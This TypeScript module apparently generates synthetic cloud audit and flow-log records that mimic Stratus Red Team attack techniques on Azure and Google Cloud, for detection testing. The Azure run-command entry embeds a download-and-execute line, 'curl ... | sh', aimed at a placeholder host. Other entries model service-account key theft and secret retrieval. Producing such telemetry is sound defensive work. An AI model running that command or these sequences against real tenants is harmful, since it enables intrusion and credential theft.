import { type ArmCaller, armOperation } from '../activity/azure-arm.ts';
import type { Day } from '../activity/day.ts';
import { emitGcp, type GcpCaller } from '../activity/gcp-calls.ts';
import { type Flow, flowLine } from '../formats/flow-line.ts';
import type { AzureResource } from '../org/azure.ts';
import type { GcpProject } from '../org/gcp.ts';
import type { Interface } from '../org/network.ts';
import { SECOND } from '../time.ts';

export type AzureTechnique = (day: Day, caller: ArmCaller, time: number) => number;
export type GcpTechnique = (day: Day, caller: GcpCaller, project: GcpProject, time: number) => number;

function azureResources(day: Day, type: string): AzureResource[] {
  return day.org.azure.subscriptions.flatMap((s) => s.resources.filter((r) => r.type === type));
}

/** Stratus Red Team's Azure techniques, as the Activity log records their detonation. */
export const AZURE_TECHNIQUES: Readonly<Record<string, AzureTechnique>> = {
  'azure.execution.vm-run-command': (day, caller, time) => {
    const vm = day.rng.pick(azureResources(day, 'Microsoft.Compute/virtualMachines'));
    return armOperation(day, time, caller, {
      resource: vm,
      operation: 'Microsoft.Compute/virtualMachines/runCommand/action',
      role: 'Virtual Machine Contributor',
      async: true,
      requestbody: { commandId: 'RunShellScript', script: ['curl -s http://198.18.200.7/x | sh'] },
    });
  },
  'azure.exfiltration.disk-export': (day, caller, time) => {
    const vm = day.rng.pick(azureResources(day, 'Microsoft.Compute/virtualMachines'));
    const disk: AzureResource = {
      ...vm,
      id: vm.id.replace('virtualMachines', 'disks').concat('_OsDisk_1'),
      type: 'Microsoft.Compute/disks',
      name: `${vm.name}_OsDisk_1`,
    };
    return armOperation(day, time, caller, {
      resource: disk,
      operation: 'Microsoft.Compute/disks/beginGetAccess/action',
      role: 'Virtual Machine Contributor',
      async: true,
      requestbody: { access: 'Read', durationInSeconds: 86400 },
    });
  },
  'azure.exfiltration.storage-sas-export': (day, caller, time) => {
    const account = day.rng.pick(azureResources(day, 'Microsoft.Storage/storageAccounts'));
    const t = armOperation(day, time, caller, {
      resource: account,
      operation: 'Microsoft.Storage/storageAccounts/listKeys/action',
      role: 'Contributor',
      async: false,
    });
    return armOperation(day, t + day.rng.int(5, 40) * SECOND, caller, {
      resource: account,
      operation: 'Microsoft.Storage/storageAccounts/ListAccountSas/action',
      role: 'Contributor',
      async: false,
    });
  },
};

function iamAction(
  project: GcpProject,
  method: string,
  resourceName: string,
  permission: string,
  request?: Record<string, unknown>,
) {
  return {
    log: 'activity' as const,
    project,
    service: 'iam.googleapis.com',
    method,
    resourceName,
    resource: {
      type: 'service_account',
      labels: { email_id: resourceName.split('/').pop()!, project_id: project.id },
    },
    permissions: [permission],
    severity: 'NOTICE' as const,
    ...(request ? { request } : {}),
  };
}

/** Stratus Red Team's Google Cloud techniques, as Cloud Audit Logs record their detonation. */
export const GCP_TECHNIQUES: Readonly<Record<string, GcpTechnique>> = {
  'gcp.persistence.create-service-account-key': (day, caller, project, time) => {
    const sa = project.serviceAccounts.etl;
    emitGcp(day, time, caller, {
      ...iamAction(
        project,
        'google.iam.admin.v1.ListServiceAccounts',
        `projects/${project.id}`,
        'iam.serviceAccounts.list',
      ),
      log: 'data_access',
      severity: 'INFO',
    });
    const t = time + day.rng.int(5, 60) * SECOND;
    emitGcp(
      day,
      t,
      caller,
      iamAction(
        project,
        'google.iam.admin.v1.CreateServiceAccountKey',
        `projects/-/serviceAccounts/${sa}`,
        'iam.serviceAccountKeys.create',
        {
          '@type': 'type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest',
          name: `projects/-/serviceAccounts/${sa}`,
          private_key_type: 2,
        },
      ),
    );
    return t;
  },
  'gcp.privilege-escalation.impersonate-service-accounts': (day, caller, project, time) => {
    let t = time;
    for (const sa of Object.values(project.serviceAccounts).slice(0, 5)) {
      emitGcp(day, t, caller, {
        log: 'data_access',
        project,
        service: 'iamcredentials.googleapis.com',
        method: 'GenerateAccessToken',
        resourceName: `projects/-/serviceAccounts/${sa}`,
        resource: { type: 'service_account', labels: { email_id: sa, project_id: project.id } },
        permissions: ['iam.serviceAccounts.getAccessToken'],
        severity: 'INFO',
      });
      t += day.rng.int(1, 6) * SECOND;
    }
    return t;
  },
  'gcp.credential-access.secretmanager-retrieve-secrets': (day, caller, project, time) => {
    let t = time;
    emitGcp(day, t, caller, {
      log: 'data_access',
      project,
      service: 'secretmanager.googleapis.com',
      method: 'google.cloud.secretmanager.v1.SecretManagerService.ListSecrets',
      resourceName: `projects/${project.number}`,
      resource: {
        type: 'audited_resource',
        labels: {
          service: 'secretmanager.googleapis.com',
          method: 'google.cloud.secretmanager.v1.SecretManagerService.ListSecrets',
          project_id: project.id,
        },
      },
      permissions: ['secretmanager.secrets.list'],
      severity: 'INFO',
    });
    for (const name of ['db-password', 'api-token', 'etl-credentials', 'bq-export-key']) {
      t += day.rng.int(1, 5) * SECOND;
      const resourceName = `projects/${project.number}/secrets/${name}/versions/latest`;
      emitGcp(day, t, caller, {
        log: 'data_access',
        project,
        service: 'secretmanager.googleapis.com',
        method: 'google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion',
        resourceName,
        resource: {
          type: 'secretmanager.googleapis.com/Secret',
          labels: { secret_id: name, location: '', project_id: project.id },
        },
        permissions: ['secretmanager.versions.access'],
        severity: 'INFO',
      });
    }
    return t;
  },
};

/**
 * Bulk upload from a compromised application host to a host it never talks to: what a flow
 * log shows of exfiltration over HTTPS (ATT&CK T1048). Not a Stratus technique: Stratus
 * detonates control-plane calls only.
 */
export function bulkTransfer(day: Day, account: string, from: Interface, to: string, time: number): number {
  let t = Math.floor(time / 1000);
  for (let i = 0; i < 6; i++) {
    const port = 40_000 + day.rng.int(0, 20_000);
    const bytes = day.rng.int(150_000_000, 600_000_000);
    const out: Flow = {
      account,
      eni: from.eni,
      src: from.ip,
      dst: to,
      srcPort: port,
      dstPort: 443,
      protocol: 6,
      packets: Math.ceil(bytes / 1400),
      bytes,
      start: t,
      end: t + 58,
      action: 'ACCEPT',
    };
    const back: Flow = {
      ...out,
      src: to,
      dst: from.ip,
      srcPort: 443,
      dstPort: port,
      packets: Math.ceil(out.packets / 2),
      bytes: Math.ceil(out.packets / 2) * 52,
    };
    day.emit('vpcflow', t * 1000, from.eni, flowLine(out));
    day.emit('vpcflow', t * 1000, from.eni, flowLine(back));
    t += 60;
  }
  return t * 1000;
}
